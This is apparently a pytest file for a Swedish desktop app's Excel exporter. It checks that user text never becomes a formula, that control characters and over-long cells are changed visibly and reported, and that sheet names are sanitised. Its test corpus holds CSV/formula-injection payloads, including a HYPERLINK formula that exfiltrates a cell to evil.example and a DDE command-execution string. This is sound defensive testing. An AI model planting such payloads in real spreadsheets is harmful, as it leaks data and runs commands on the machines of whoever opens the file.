"""Cell safety of the workbook: user text is never a formula, what Excel cannot hold is changed
visibly and reported (never cut silently), sheet names and header/footer text are sanitised."""

from __future__ import annotations

import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from samverkan_desktop.db.database import Database
from samverkan_desktop.domain.catalog import AgreementKind, AgreementStatus, OrgKind
from samverkan_desktop.exporters.progress import run_to_end
from samverkan_desktop.exporters.workbook import NOTES_SHEET, export_portfolio
from samverkan_desktop.exporters.xlsx_safe import (
    EXCEL_CELL_LIMIT,
    TRUNCATION_MARKER,
    SafeText,
    header_text,
    make_storable,
    safe_sheet_name,
    utf16_len,
)
from samverkan_desktop.services import Services
from samverkan_desktop.services.agreements import AgreementInput

TODAY = date(2026, 11, 28)

#: The hostile corpus of the issue. Expected cell text after export (None: same as input).
CORPUS: list[tuple[str, str | None]] = [
    ('=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")', None),
    ("=cmd|' /C calc'!A0", None),
    ("+SUM(1,2)", None),
    ("-2+3", None),
    ("@SUM(A1:A2)", None),
    ("\t=1+1", None),
    ("\r=1+1", "\n=1+1"),  # documented: CR is stored as LF (XML would do it anyway)
    ("rad ett\r\nrad två", "rad ett\nrad två"),
    ("NUL\x00här", "NUL\u2400här"),  # documented: control pictures
    ("klocka\x07 och \x1b escape \x7f", "klocka\u2407 och \u241b escape \u2421"),
    ("\u202eevil.exe\u202c", None),  # RTL override: kept as is
    ("decomposed a\u030a och precomposed \u00e5", None),  # not normalised
    ("emoji 😀 ✓ Łukasz Dvořák", None),
    ("'apostrof först", None),
    ("  blanksteg först", None),
    ("_x0000_ bokstavligt", None),
]
LONG = "x" * 40_000


def test_make_storable_reports_every_transformation() -> None:
    assert make_storable("vanlig text") == ("vanlig text", [])
    text, notes = make_storable("a\x00b\x1fc")
    assert text == "a\u2400b\u241fc" and "2 kontrolltecken" in notes[0]
    text, notes = make_storable(LONG)
    assert utf16_len(text) == EXCEL_CELL_LIMIT and text.endswith(TRUNCATION_MARKER) and text.startswith("x" * 1000)
    assert "40 000 tecken" in notes[0] and "32 767" in notes[0]
    emoji = "😀" * 20_000  # 40 000 UTF-16 units: Excel counts those
    text, notes = make_storable(emoji)
    assert utf16_len(text) <= EXCEL_CELL_LIMIT and notes
    text, _ = make_storable("lone \ud800 surrogate \ufffe")
    assert text == "lone \ufffd surrogate \ufffd"


def test_safe_text_cells_are_strings_and_formula_like_text_gets_a_quote_prefix(tmp_path: Path) -> None:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("T")
    notes: list = []
    safe = SafeText(ws, "T", notes)
    for i, (s, _) in enumerate(CORPUS + [(LONG, None)], start=1):
        ws.append([safe.cell(s, i, "A", "Rubrik")])
    path = tmp_path / "t.xlsx"
    wb.save(path)
    back = load_workbook(path)["T"]
    for i, (s, expected) in enumerate(CORPUS, start=1):
        c = back.cell(row=i, column=1)
        assert c.data_type == "s" and c.value == (expected or s), (i, c.value)
        assert c.quotePrefix == (c.value[:1] in "=+-@"), (i, c.value)
    long_cell = back.cell(row=len(CORPUS) + 1, column=1)
    assert long_cell.value.endswith(TRUNCATION_MARKER)
    assert [n.row for n in notes] == [9, 10, len(CORPUS) + 1]  # NUL, control characters, 40 000
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_sheet_names_and_header_footer_text_are_sanitised() -> None:
    assert safe_sheet_name("Möten och beslut") == "Möten och beslut"
    assert safe_sheet_name("a/b\\c?d*e[f]g:h") == "a_b_c_d_e_f_g_h"
    assert safe_sheet_name("'citat'") == "citat"
    assert safe_sheet_name("") == "Blad" and safe_sheet_name("History") == "History_"
    long = safe_sheet_name("x" * 40)
    assert len(long) == 31
    assert safe_sheet_name("Avtal", {"avtal"}) == "Avtal (2)"
    assert len(safe_sheet_name("y" * 31, {"y" * 31})) == 31
    assert header_text("Rodret & Co\x00") == "Rodret && Co\u2400"
    assert header_text("z" * 200, 20).endswith("…") and len(header_text("z" * 200, 20)) == 20


@pytest.fixture
def hostile_sv(sqlite_db: Database) -> Services:
    """Agreements whose free-text themes (not limited by the services) hold the hostile corpus."""
    sv = Services.build(sqlite_db)
    own = sv.people.save_organisation("Kommun & Co", OrgKind.KOMMUN, is_own=True)
    for n, (text, _) in enumerate(CORPUS + [(LONG, None)], start=1):
        sv.agreements.create(AgreementInput(kind=AgreementKind.SAMVERKANSAVTAL, title=f"Avtal {n:02d}",
                                            our_organisation_id=own, start=date(2026, 1, 1),
                                            status=AgreementStatus.AKTIVT, themes=text), TODAY)
    return sv


def test_hostile_text_in_the_database_is_exported_as_text_visibly_and_reported(hostile_sv: Services,
                                                                               tmp_path: Path) -> None:
    path = tmp_path / "h.xlsx"
    result = run_to_end(export_portfolio(hostile_sv, path, TODAY))
    wb = load_workbook(path)
    ws = wb["Avtal"]
    head = {c.value: c.column for c in ws[1]}
    got = {ws.cell(r, head["Titel"]).value: ws.cell(r, head["Teman"]) for r in range(2, len(CORPUS) + 3)}
    for n, (text, expected) in enumerate(CORPUS, start=1):
        cell = got[f"Avtal {n:02d}"]
        assert cell.data_type == "s" and cell.value == (expected or text), (n, cell.value)
    long_cell = got[f"Avtal {len(CORPUS) + 1:02d}"]
    assert long_cell.value.endswith(TRUNCATION_MARKER) and utf16_len(long_cell.value) <= EXCEL_CELL_LIMIT
    # every transformation is reported, with sheet, row and column, and listed on Meddelanden
    assert len(result.notes) == 3 and all(n.sheet == "Avtal" and n.header == "Teman" for n in result.notes)
    assert any("Meddelanden" in w for w in result.warnings)
    notes = wb[NOTES_SHEET]
    assert notes.max_row == 4 and "32 767" in " ".join(str(c.value) for c in notes["E"])
    # no formula anywhere except the SUBTOTAL totals; the page header escapes '&'
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = z.read(name).decode()
                for f in re.findall(r"<f>(.*?)</f>", xml):
                    assert f.startswith("SUBTOTAL(109,"), (name, f)
        assert "Kommun &amp;&amp; Co" in z.read("xl/worksheets/sheet2.xml").decode()
